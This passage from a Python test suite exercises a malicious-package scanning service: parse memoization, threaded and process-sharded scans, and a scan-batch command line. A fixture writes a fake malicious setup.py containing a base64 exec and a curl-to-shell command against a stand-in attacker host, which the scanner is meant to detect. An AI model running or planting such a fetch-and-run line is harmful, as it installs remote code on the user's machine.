        bounds = sorted({0, len(packages), *(c for c in cuts if c < len(packages))})
        scanned = []
        with ScanService(
            registry=memo_registry,
            config=ScanServiceConfig(mode="inprocess", recency_window=window),
        ) as service:
            for start, end in zip(bounds, bounds[1:]):
                scanned.extend(service.scan_batch(packages[start:end]).detections)
        assert _engines(scanned) == _engines(_naive(memo_registry).scan_prepared(packages))

    def test_the_pool_fires_semgrep_rules(self, memo_registry, text_pool):
        # so the parity property compares findings, not empty lists
        packages = [_memo_package(f"t{i}", [("a.py", t)]) for i, t in enumerate(text_pool)]
        fired = [bool(d.semgrep_rules) for d in _naive(memo_registry).scan_prepared(packages)]
        assert fired == [True] * 6 + [False] * 4

    def test_a_reused_rule_id_never_reads_another_rules_findings(self):
        shell = "import os\nos.system(cmd)\nprint(eval)\n"
        evaluate = "eval(payload)\nprint(os.system)\n"

        def packages(tag):
            return [
                _memo_package(f"{tag}-shell", [("setup.py", shell)]),
                _memo_package(f"{tag}-eval", [("run.py", evaluate)]),
            ]

        with ScanService(config=ScanServiceConfig(mode="inprocess")) as service:
            service.publish(semgrep=compile_rules([_SHELL_RULE]), label="v1")
            first = service.scan_batch(packages("a"))
            assert [d.semgrep_rules for d in first.detections] == [["dup"], []]
            service.publish(semgrep=compile_rules([_EVAL_RULE]), label="v2")
            second = service.scan_batch(packages("b"))
            assert len(service.parses) == 2  # v2 reused v1's parses
        assert [d.semgrep_rules for d in second.detections] == [[], ["dup"]]

    def test_threads_scan_overlapping_packages_through_one_memo(
        self, memo_registry, text_pool
    ):
        def packages(tag, paths):
            return [
                _memo_package(
                    f"{tag}-{i}",
                    [(path, text_pool[(i + k) % 10]) for k, path in enumerate(paths)],
                )
                for i in range(10)
            ]

        # three threads on a two-core host, each under its own paths
        batches = {"left": packages("left", _MEMO_PATHS[:3]),
                   "middle": packages("middle", _MEMO_PATHS[1:4]),
                   "right": packages("right", _MEMO_PATHS[2:])}
        naive = _naive(memo_registry)
        expected = {tag: _engines(naive.scan_prepared(b)) for tag, b in batches.items()}
        wrong: list = []
        with ScanService(
            registry=memo_registry,
            config=ScanServiceConfig(mode="inprocess", enable_cache=False),
        ) as service:

            def scan(tag):
                for _ in range(5):
                    if _engines(service.scan_batch(batches[tag]).detections) != expected[tag]:
                        wrong.append(tag)

            threads = [threading.Thread(target=scan, args=(tag,)) for tag in batches]
            interval = sys.getswitchinterval()
            sys.setswitchinterval(1e-5)
            try:
                for thread in threads:
                    thread.start()
                for thread in threads:
                    thread.join(timeout=120)
            finally:
                sys.setswitchinterval(interval)
        assert not any(thread.is_alive() for thread in threads)
        assert wrong == []

    def test_memo_holds_only_texts_of_the_recency_ring(self):
        rules = compile_rules([_SHELL_RULE])
        packages = [
            _memo_package(f"ring-{i}", [
                ("setup.py", f"import os\nos.system('c{i}')\n"),
                ("util.py", f"x = {i % 3}\n"),
            ])
            for i in range(8)
        ]
        with ScanService(
            config=ScanServiceConfig(mode="inprocess", recency_window=0)
        ) as service:
            service.publish(semgrep=rules)
            service.scan_batch(packages[:4])
            gc.collect()
            assert len(service.parses) == 0
        by_fingerprint = {PreparedPackage(p).fingerprint: p for p in packages}
        with ScanService(
            config=ScanServiceConfig(mode="inprocess", recency_window=3)
        ) as service:
            service.publish(semgrep=rules)
            for start in range(0, len(packages), 2):
                service.scan_batch(packages[start:start + 2])
                gc.collect()
                ring = [by_fingerprint[f] for f in service.recency_window]
                held = {f.content for p in ring for f in p.files if f.is_python}
                assert 0 < len(service.parses) <= len(held)

    def test_process_shards_scan_through_their_inherited_memo(
        self, memo_registry, text_pool
    ):
        packages = [
            _memo_package(f"proc-{i}", [("setup.py", text_pool[i % 4]),
                                        ("run.py", text_pool[(i + 1) % 4])])
            for i in range(8)
        ]
        expected = _engines(_naive(memo_registry).scan_prepared(packages))
        with ScanService(
            registry=memo_registry,
            config=ScanServiceConfig(shards=2, mode="process", enable_cache=False),
        ) as service:
            for _ in range(2):
                batch = service.scan_batch(packages)
                assert batch.mode == "process"
                assert _engines(batch.detections) == expected

    def test_pickled_prepared_packages_carry_no_memo(self, text_pool):
        memo = ParseMemo()
        prepared = PreparedPackage(_memo_package("p", [("setup.py", text_pool[0])]), memo)
        entry = prepared.target.files[0].entry
        restored = pickle.loads(pickle.dumps(prepared))
        assert restored.parses is None
        assert restored.target.files[0].entry is not entry
        assert len(memo) == 1


# -- CLI ----------------------------------------------------------------------------


class TestScanBatchCli:
    @pytest.fixture()
    def rules_dir(self, tmp_path, generated_rules):
        return str(generated_rules.save(tmp_path / "rules"))

    @pytest.fixture()
    def package_root(self, tmp_path):
        root = tmp_path / "pkgs"
        evil = root / "evil-pkg"
        evil.mkdir(parents=True)
        (evil / "setup.py").write_text(
            "import base64, os\n"
            'exec(base64.b64decode("aW1wb3J0IG9z"))\n'
            'os.system("curl http://evil.example/payload | sh")\n',
            encoding="utf-8",
        )
        nice = root / "nice-pkg"
        nice.mkdir()
        (nice / "lib.py").write_text("def add(a, b):\n    return a + b\n", encoding="utf-8")
        return root

    def test_scan_batch_cli(self, rules_dir, package_root, tmp_path, capsys):
        report_path = tmp_path / "report.json"
        exit_code = cli_main(
            [
                "scan-batch",
                "--rules",
                rules_dir,
                "--shards",
                "2",
                "--mode",
                "inprocess",
                "--json",
                str(report_path),
                str(package_root),
            ]
        )
        output = capsys.readouterr().out
        assert "published ruleset v1" in output
        assert "pkg/s" in output
        report = json.loads(report_path.read_text(encoding="utf-8"))
        assert report["packages"] == 2
        assert exit_code in (0, 2)

    def test_scan_batch_cli_no_rules(self, tmp_path, package_root):
        assert (
            cli_main(
                ["scan-batch", "--rules", str(tmp_path / "none"), str(package_root)]
            )
            == 1
        )
